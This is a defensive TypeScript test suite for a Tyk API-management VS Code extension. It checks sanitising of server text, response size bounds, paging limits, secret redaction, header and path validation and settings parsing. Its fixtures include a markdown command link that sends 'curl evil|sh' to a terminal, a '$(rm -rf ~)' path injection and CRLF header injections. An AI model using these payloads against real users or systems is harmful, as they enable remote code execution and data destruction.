// Hostile input from a server or a settings file (issue 14): text that would be markup or a command
// link, answers too big to read, catalogs without end, secrets echoed back, ids and names that would
// change what the extension writes, settings of the wrong type, CA files that are not files.
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import type * as http from 'node:http';
import * as os from 'node:os';
import * as path from 'node:path';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { DashboardClient } from '../../../src/tyk/dashboard';
import { GatewayClient } from '../../../src/tyk/gateway';
import { TykError } from '../../../src/tyk/errors';
import { MAX_DISPLAY_LENGTH, markdownText, plainText } from '../../../src/domain/displayText';
import { ConnectionSetting, credentialBinding, mayRequest, parseConnectionSettings, trimTrailingSlashes } from '../../../src/domain/connectionSettings';
import { isAddressable } from '../../../src/tyk/keyOps';
import { MAX_NAME_LENGTH, MAX_PATH_LENGTH } from '../../../src/domain/limits';
import { toTykApi, toTykPolicy } from '../../../src/tyk/mapping';
import { LoadBudget, MAX_LOAD_REQUESTS, type LoadTruncated } from '../../../src/tyk/paging';
import { SecretRedactor, redactorOf } from '../../../src/tyk/redactor';
import { hideSecretFields } from '../../../src/domain/secretFields';

const HIDDEN = '(hidden)';
import { MAX_CA_FILE_BYTES, readCaFile } from '../../../src/tyk/tls';
import { isHttpToken, parseHeaderName, parseListenPath } from '../../../src/domain/validation';
import { keyFormatLabel } from '../../../src/domain/keyFormats';
import { json, startFaultServer, type FaultServer } from '../../support/faultServer';
import { timeBudgetMs } from '../../support/timeBudget';
import { tykErrorOf } from '../../support/tykError';

const CREDENTIAL = 'c0ffee00d15ea5e5b16b00b5feedface';
const COMMAND_LINK = '[Update Credential…](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
/** Every character that must never reach a notification as it is. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\u2028\u2029\ufeff]/;


/** Writes `body` in 1 MiB pieces, following backpressure, and ignores the client going away. */
function stream(res: http.ServerResponse, status: number, body: Buffer, contentType: string): void {
  res.on('error', () => undefined);
  res.writeHead(status, { 'content-type': contentType, 'content-length': body.length });
  let at = 0;
  const more = (): void => {
    while (at < body.length && !res.destroyed) {
      const piece = body.subarray(at, at + 1024 * 1024);
      at += piece.length;
      if (!res.write(piece)) {
        res.once('drain', more);
        return;
      }
    }
    res.end();
  };
  more();
}

describe('tyk: hostile input (issue 14)', () => {
  describe('text from a server is shown as text', () => {
    it('plainText: no link, no control or bidi character, one line, bounded', () => {
      const hostile = `${COMMAND_LINK}\r\nline two\u202egnp.exe\u0000![img](https://evil.example/x.png) $(zap) <a href="command:x">y</a>`;
      const shown = plainText(hostile);
      assert.doesNotMatch(shown, /\]\(/, 'no [label](target) left');
      assert.doesNotMatch(shown, CONTROL);
      assert.doesNotMatch(shown, /\$\(/, 'no theme icon');
      assert.match(shown, /Update Credential…/, 'the words stay');
      assert.equal(plainText('x'.repeat(10_000)).length, MAX_DISPLAY_LENGTH + 1, 'bounded, with an ellipsis');
      assert.equal(plainText('a\ud83d\ude00b', 2), 'a…', 'a surrogate pair is not split');
      assert.equal(plainText('lone \ud800 surrogate'), 'lone \ufffd surrogate');
      // Cut first: a 32 MB text costs no more than a short one.
      const started = process.hrtime.bigint();
      plainText(`${' \n'.repeat(8 * 1024 * 1024)}[x](command:y)`);
      assert.ok(Number(process.hrtime.bigint() - started) / 1e6 < timeBudgetMs(50), 'linear in the bound, not the text');
    });

    it('markdownText: every ASCII punctuation character escaped (links, images, HTML, code, autolinks, icons)', () => {
      const md = markdownText(`${COMMAND_LINK} ![i](x) <a href="command:y">z</a> \`code\` https://evil.example www.evil.example $(zap) &amp;`);
      assert.doesNotMatch(md, /(?<!\\)[[\]()<>`!&$:.]/, md);
      assert.match(md, /Update Credential/);
    });

    it('a server message with a command link, CR/LF and bidi overrides reaches the TykError as plain text', async () => {
      const server = await startFaultServer();
      try {
        server.handle((_req, res) => json(res, 500, { Status: 'Error', Message: `${COMMAND_LINK}\r\nInjected line\u202e` }));
        const dashboard = new DashboardClient({ baseUrl: server.url, credential: CREDENTIAL, retryDelayMs: 1 });
        const e = await tykErrorOf(() => dashboard.listApisPage(1));
        for (const text of [e.message, e.serverMessage ?? '']) {
          assert.doesNotMatch(text, /\]\(/);
          assert.doesNotMatch(text, CONTROL);
        }
        assert.match(e.message, /Update Credential/);
      } finally {
        await server.close();
      }
    });

    it('any TykError message is plain text, whoever wrote it', () => {
      const e = new TykError('server', `Revoked the key ${COMMAND_LINK}\n`, { serverMessage: COMMAND_LINK });
      assert.doesNotMatch(e.message, /\]\(|\n/);
      assert.doesNotMatch(e.serverMessage ?? '', /\]\(/);
    });
  });

  describe('one big answer does not freeze the extension host', () => {
    let server: FaultServer;
    const BIG = 40 * 1024 * 1024;
    let notJson: Buffer;
    let jsonStart: Buffer;
    before(() => {
      notJson = Buffer.alloc(BIG, 'x');
      notJson.write('<html><body><h1>Proxy error</h1>', 0);
      jsonStart = Buffer.alloc(BIG, ' ');
      jsonStart.write('{"apis": [', 0);
    });
    beforeEach(async () => {
      server = await startFaultServer();
    });
    afterEach(() => server.close());

    async function longestBlockMs(fn: () => Promise<unknown>): Promise<number> {
      const histogram = monitorEventLoopDelay({ resolution: 5 });
      histogram.enable();
      try {
        await fn();
      } finally {
        histogram.disable();
      }
      return histogram.max / 1e6;
    }

    it(`a ${BIG / 1024 / 1024} MB answer that is not JSON (200, then 502 retried): one clear message, no block over 100 ms`, async function () {
      this.timeout(30_000);
      const dashboard = new DashboardClient({ baseUrl: server.url, credential: CREDENTIAL, retryDelayMs: 1, timeoutMs: 20_000 });
      for (const status of [200, 502]) {
        server.handle((_req, res) => stream(res, status, notJson, 'text/html'));
        let error: TykError | undefined;
        const blocked = await longestBlockMs(async () => {
          error = await tykErrorOf(() => dashboard.listApisPage(1));
        });
        assert.ok(blocked < timeBudgetMs(100), `the event loop was blocked ${blocked.toFixed(0)} ms by a ${status}`);
        assert.equal(error?.kind, status === 200 ? 'bad-response' : 'server');
        assert.match(error?.message ?? '', status === 200 ? /not JSON/ : /HTML page/);
        assert.ok((error?.message.length ?? 0) < 700);
      }
      dashboard.dispose();
    });

    it('an answer that begins like JSON and goes past the bound: "too large", no block over 100 ms', async function () {
      this.timeout(30_000);
      const dashboard = new DashboardClient({ baseUrl: server.url, credential: CREDENTIAL, retryDelayMs: 1, timeoutMs: 20_000, maxResponseBytes: 8 * 1024 * 1024 });
      server.handle((_req, res) => stream(res, 200, jsonStart, 'application/json'));
      let error: TykError | undefined;
      const blocked = await longestBlockMs(async () => {
        error = await tykErrorOf(() => dashboard.listApisPage(1));
      });
      assert.ok(blocked < timeBudgetMs(100), `blocked ${blocked.toFixed(0)} ms`);
      assert.equal(error?.code, 'TOO_LARGE');
      assert.match(error?.message ?? '', /larger than 8 MB/);
      dashboard.dispose();
    });
  });

  describe('every load is bounded', () => {
    let server: FaultServer;
    beforeEach(async () => {
      server = await startFaultServer();
    });
    afterEach(() => server.close());

    it(`a Dashboard that claims 1e9 pages of APIs gets at most ${MAX_LOAD_REQUESTS} requests, and the caller is told what was shown`, async function () {
      this.timeout(60_000);
      server.handle((req, res) => {
        const p = new URL(req.url ?? '', 'http://x').searchParams.get('p') ?? '1';
        json(res, 200, { apis: [{ api_definition: { api_id: `api-${p}`, name: `API ${p}` } }], pages: 1e9 });
      });
      const dashboard = new DashboardClient({ baseUrl: server.url, credential: CREDENTIAL, retryDelayMs: 1 });
      const notices: LoadTruncated[] = [];
      const apis = await dashboard.listAllApis({ onTruncated: (n) => notices.push(n) });
      assert.ok(server.requests.length <= MAX_LOAD_REQUESTS, `${server.requests.length} requests`);
      assert.equal(notices.length, 1);
      assert.equal(notices[0]?.shown, apis.length);
      assert.equal(notices[0]?.reason, 'requests', 'not the budget: the page count claimed');
      assert.match(notices[0]?.message ?? '', new RegExp(`Showing the first ${apis.length} APIs`));
      dashboard.dispose();
    });

    it('policies: bounded in bytes too, and each id once', async function () {
      this.timeout(30_000);
      const padding = 'p'.repeat(100 * 1024);
      server.handle((req, res) => {
        const p = new URL(req.url ?? '', 'http://x').searchParams.get('p') ?? '1';
        json(res, 200, { Data: [{ id: `pol-${p}`, name: padding }, { id: 'shared', name: 'twice' }], Pages: 1e6 });
      });
      const limits = { maxRequests: MAX_LOAD_REQUESTS, maxBytes: 1024 * 1024 };
      const dashboard = new DashboardClient({ baseUrl: server.url, credential: CREDENTIAL, retryDelayMs: 1, loadLimits: limits });
      const notices: LoadTruncated[] = [];
      const policies = await dashboard.listPolicies({ onTruncated: (n) => notices.push(n) });
      assert.ok(server.requests.length < 12, `${server.requests.length} requests for ~100 KB pages within 1 MB`);
      assert.equal(notices[0]?.reason, 'bytes');
      assert.ok((notices[0]?.bytes ?? Infinity) <= limits.maxBytes);
      assert.equal(policies.filter((p) => p.id === 'shared').length, 1, 'duplicate ids deduplicated');
      assert.ok(policies.every((p) => p.name.length <= MAX_NAME_LENGTH), 'names cut');
      dashboard.dispose();
    });

    it('LoadBudget: never grants more than the bytes left, shared by the requests under way', () => {
      const budget = new LoadBudget({ maxRequests: 3, maxBytes: 1000 });
      const a = budget.start(800, 2);
      assert.equal(a, 500);
      const b = budget.start(800, 2);
      assert.equal(b, 250);
      budget.finish(a ?? 0, 100);
      budget.finish(b ?? 0, 100);
      assert.equal(budget.start(800), 800);
      assert.equal(budget.start(800), undefined, 'at most 3 requests');
      assert.equal(budget.stopped, 'requests');
    });

    it('names and paths kept are cut (one place: mapping)', () => {
      const api = toTykApi({ api_id: 'a', name: 'n'.repeat(1_000_000), proxy: { listen_path: `/${'p'.repeat(100_000)}` }, auth: { auth_header_name: 'h'.repeat(100_000) } });
      assert.ok(api.name.length <= MAX_NAME_LENGTH && api.listenPath.length <= MAX_PATH_LENGTH && api.authHeaderName.length <= MAX_PATH_LENGTH);
      assert.equal(api.apiId, 'a');
      const policy = toTykPolicy({ id: 'p', name: 'n'.repeat(10_000), access_rights: { a: { api_name: 'm'.repeat(10_000) } } });
      assert.ok((policy?.name.length ?? 0) <= MAX_NAME_LENGTH && (policy?.apis[0]?.apiName?.length ?? 0) <= MAX_NAME_LENGTH);
    });
  });

  describe('secrets echoed back', () => {
    let server: FaultServer;
    beforeEach(async () => {
      server = await startFaultServer();
    });
    afterEach(() => server.close());

    it('the reason phrase is redacted like the body', async () => {
      server.handle((_req, res) => {
        res.writeHead(502, `Upstream rejected ${CREDENTIAL}`, { 'content-type': 'text/html' });
        res.end('<html><body>bad gateway</body></html>');
      });
      const dashboard = new DashboardClient({ baseUrl: server.url, credential: CREDENTIAL, retryDelayMs: 1 });
      const e = await tykErrorOf(() => dashboard.listApisPage(1));
      assert.match(e.message, /Upstream rejected «redacted»/);
      assert.ok(!e.message.includes(CREDENTIAL));
    });

    it('keys registered with the redactor (listed in the tree) are masked in server messages', async () => {
      const listed = 'listedkey0123456789abcdef0123';
      server.handle((_req, res) => json(res, 500, { Status: 'Error', Message: `key ${listed} is broken` }));
      const redactor = new SecretRedactor();
      redactor.addKeys([listed]);
      const dashboard = new DashboardClient({ baseUrl: server.url, credential: CREDENTIAL, retryDelayMs: 1, redactor });
      const e = await tykErrorOf(() => dashboard.listApisPage(1));
      assert.ok(!e.message.includes(listed), e.message);
      assert.match(e.message, /list…0123/);
      assert.equal(redactor.apply(`log ${listed} ${CREDENTIAL}`, [CREDENTIAL]), 'log list…0123 «redacted»');
    });

    it('cut first, then redact: a secret the cut goes through never shows in part', () => {
      const redactor = redactorOf(CREDENTIAL);
      for (let at = 150; at < 210; at++) {
        const text = `${'a'.repeat(at)}${CREDENTIAL}${'b'.repeat(1000)}`;
        const shown = redactor.excerpt(text, 200);
        assert.ok(!shown.includes(CREDENTIAL.slice(0, 6)), `at ${at}: ${shown}`);
        assert.ok(shown.length <= 201);
      }
      // Whitespace collapsed after the cut cannot pull a cut secret in.
      assert.ok(!redactor.excerpt(`${' '.repeat(190)}${CREDENTIAL}`, 200).includes(CREDENTIAL.slice(0, 6)));
    });

    it('key details hide secret fields by pattern, at any depth, whatever the case', () => {
      const session = {
        alias: 'shown',
        hmac_string: 'h',
        Password: 'p',
        basic_auth_data: { password: 'p', hash_type: 'bcrypt' },
        meta_data: { client_secret: 's', nested: [{ API_TOKEN: 't', privateKey: 'k', 'x-private-key': 'k' }], note: 'shown' },
        jwt_data: { secret: 's' },
        enable_hmac: true,
        certificate: 'c',
        empty_secret: '',
      };
      const shown = JSON.stringify(hideSecretFields(session, HIDDEN));
      for (const secret of ['"h"', '"p"', '"s"', '"t"', '"k"', '"c"']) {
        assert.ok(!shown.includes(`:${secret}`), `${secret} hidden in ${shown}`);
      }
      assert.match(shown, /"alias":"shown"/);
      assert.match(shown, /"note":"shown"/);
      assert.match(shown, /"hash_type":"bcrypt"/);
      assert.match(shown, /"enable_hmac":true/);
      assert.match(shown, /"empty_secret":""/);
      assert.equal((hideSecretFields({ password: 'x' }, HIDDEN) as { password: string }).password, HIDDEN);
    });
  });

  describe('what the extension writes', () => {
    it('header names are HTTP tokens; listen paths are URL paths: no CR/LF, space or control character', () => {
      assert.ok(parseHeaderName('X-Api-Key').ok);
      for (const bad of ['X-Key\r\nX-Evil: 1', 'X Key', 'X-Key:', 'Ключ', '']) {
        assert.equal(parseHeaderName(bad).ok, false, JSON.stringify(bad));
        assert.equal(isHttpToken(bad), false);
      }
      assert.deepEqual(parseListenPath('/petstore/v1/'), { ok: true, value: '/petstore/v1/' });
      assert.deepEqual(parseListenPath('petstore'), { ok: true, value: '/petstore' });
      for (const bad of ['/pet\r\nHost: evil', '/pet store', "/pet'$(rm -rf ~)'", '/a{b,c}', '/a#b', '/a?b', '/%zz']) {
        assert.equal(parseListenPath(bad).ok, false, JSON.stringify(bad));
      }
    });

    it('ids ".", ".." and their percent-encoded forms are refused in every path the client builds', async () => {
      for (const id of ['.', '..', '%2e', '%2E%2e', '.%2E', '%252e%252e', '']) {
        assert.equal(isAddressable(id), false, id);
      }
      assert.ok(isAddressable('...') && isAddressable('a..b') && isAddressable('%2e%2e%2e'));
      const server = await startFaultServer();
      try {
        server.handle((_req, res) => json(res, 200, { Status: 'OK', Message: 'deleted' }));
        const dashboard = new DashboardClient({ baseUrl: server.url, credential: CREDENTIAL });
        const gateway = new GatewayClient({ baseUrl: server.url, credential: CREDENTIAL });
        for (const call of [
          () => dashboard.deleteKey({ id: '..' }),
          () => dashboard.getKey({ id: '%2E%2e', hashed: true }),
          () => dashboard.getApi('..'),
          () => dashboard.listKeys('%2e'),
          () => gateway.deleteKey({ id: '.' }),
          () => gateway.getApi('%2e%2E'),
        ]) {
          await tykErrorOf(call);
        }
        assert.equal(server.requests.length, 0, 'nothing sent');
        dashboard.dispose();
        gateway.dispose();
      } finally {
        await server.close();
      }
    });

    it('the curl format says which shell it is quoted for', () => {
      assert.match(keyFormatLabel('curl').label, /bash\/zsh/);
    });
  });

  describe('settings', () => {
    const valid = { id: 'c1', name: 'Staging', kind: 'dashboard', url: 'https://dash.example.com' };

    it('every field of a tyk.connections entry is checked by type: "allowSelfSigned": "false" is refused, not true', () => {
      assert.equal(ConnectionSetting.safeParse({ ...valid, allowSelfSigned: 'false' }).success, false);
      assert.equal(ConnectionSetting.safeParse({ ...valid, allowInsecureHttp: 1 }).success, false);
      assert.equal(ConnectionSetting.safeParse({ ...valid, url: 'ftp://x' }).success, false);
      assert.equal(ConnectionSetting.safeParse({ ...valid, url: 'https://user:pw@x' }).success, false);
      assert.equal(ConnectionSetting.safeParse({ ...valid, kind: 'Dashboard' }).success, false);
      assert.equal(ConnectionSetting.safeParse({ ...valid, caFile: 42 }).success, false);
      assert.equal(ConnectionSetting.safeParse({ ...valid, allowSelfSigned: true, extra: 1 }).success, true);
      const result = parseConnectionSettings([valid, { ...valid, id: 'c2', allowSelfSigned: 'false' }, { ...valid }, 'nonsense']);
      assert.deepEqual(
        result.connections.map((c) => c.id),
        ['c1'],
      );
      assert.equal(result.problems.length, 3);
      assert.match(result.problems[0] ?? '', /“Staging” \(number 2\).*allowSelfSigned/);
      assert.deepEqual(parseConnectionSettings({}).connections, []);
    });

    it('plain http goes only to this machine, or where the user allowed it; checked before every request', async () => {
      assert.ok(mayRequest('https://dash.example.com', false));
      assert.ok(mayRequest('http://localhost:3000', false));
      assert.ok(mayRequest('http://127.0.0.1:3000', undefined));
      assert.ok(mayRequest('http://[::1]:3000', false));
      assert.ok(!mayRequest('http://dash.example.com', false));
      assert.ok(!mayRequest('http://dash.example.com', 'true' as unknown as boolean), 'only the boolean true');
      assert.ok(!mayRequest('http://localhost.evil.com', false));
      assert.ok(mayRequest('http://10.0.0.5:3000', true));
      // 192.0.2.0/24 is TEST-NET-1: the refusal comes before any connection is tried.
      const remote = new DashboardClient({ baseUrl: 'http://192.0.2.1:3000', credential: CREDENTIAL, timeoutMs: 500 });
      const e = await tykErrorOf(() => remote.listApisPage(1));
      assert.equal(e.code, 'INSECURE_HTTP');
      assert.match(e.message, /allowInsecureHttp/);
    });

    it('URL helpers: trailing slashes trimmed in linear time; a credential is bound to kind and URL', () => {
      const long = `https://x/${'/'.repeat(200_000)}a${'/'.repeat(200_000)}`;
      const started = process.hrtime.bigint();
      assert.equal(trimTrailingSlashes(long), `https://x/${'/'.repeat(200_000)}a`);
      assert.ok(Number(process.hrtime.bigint() - started) / 1e6 < timeBudgetMs(50));
      assert.equal(credentialBinding('dashboard', 'https://Dash.example.com/'), credentialBinding('dashboard', 'https://dash.example.com'));
      assert.notEqual(credentialBinding('dashboard', 'https://dash.example.com'), credentialBinding('dashboard', 'https://evil.example.com'));
      assert.notEqual(credentialBinding('dashboard', 'https://dash.example.com'), credentialBinding('gateway', 'https://dash.example.com'));
    });
  });

  describe('smaller', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tyk-ca-'));
    after(() => fs.rmSync(dir, { recursive: true, force: true }));

    it('caFile: a regular file of at most 1 MB; not a device, a folder, a FIFO (no hang) or a bigger file', async function () {
      this.timeout(10_000);
      const pem = path.join(dir, 'ca.pem');
      fs.writeFileSync(pem, '-----BEGIN CERTIFICATE-----\n');
      assert.equal((await readCaFile(pem)).toString(), '-----BEGIN CERTIFICATE-----\n');
      const big = path.join(dir, 'big.pem');
      fs.writeFileSync(big, Buffer.alloc(MAX_CA_FILE_BYTES + 1));
      assert.equal((await tykErrorOf(() => readCaFile(big))).code, 'CA_FILE_TOO_LARGE');
      assert.equal((await tykErrorOf(() => readCaFile(dir))).code, 'CA_FILE_NOT_A_FILE');
      assert.equal((await tykErrorOf(() => readCaFile(path.join(dir, 'missing.pem')))).code, 'CA_FILE_UNREADABLE');
      if (process.platform !== 'win32') {
        assert.equal((await tykErrorOf(() => readCaFile('/dev/zero'))).code, 'CA_FILE_NOT_A_FILE');
        const fifo = path.join(dir, 'fifo');
        execFileSync('mkfifo', [fifo]);
        assert.equal((await tykErrorOf(() => readCaFile(fifo))).code, 'CA_FILE_NOT_A_FILE');
      }
    });

    it('a disposed client closes its keep-alive sockets', async () => {
      const server = await startFaultServer();
      try {
        server.handle((_req, res) => json(res, 200, { apis: [], pages: 1 }));
        const dashboard = new DashboardClient({ baseUrl: server.url, credential: CREDENTIAL });
        await dashboard.listApisPage(1);
        assert.equal(server.openSockets(), 1, 'kept alive');
        dashboard.dispose();
        await new Promise((resolve) => setTimeout(resolve, 50));
        assert.equal(server.openSockets(), 0, 'closed by dispose');
      } finally {
        await server.close();
      }
    });
  });
});
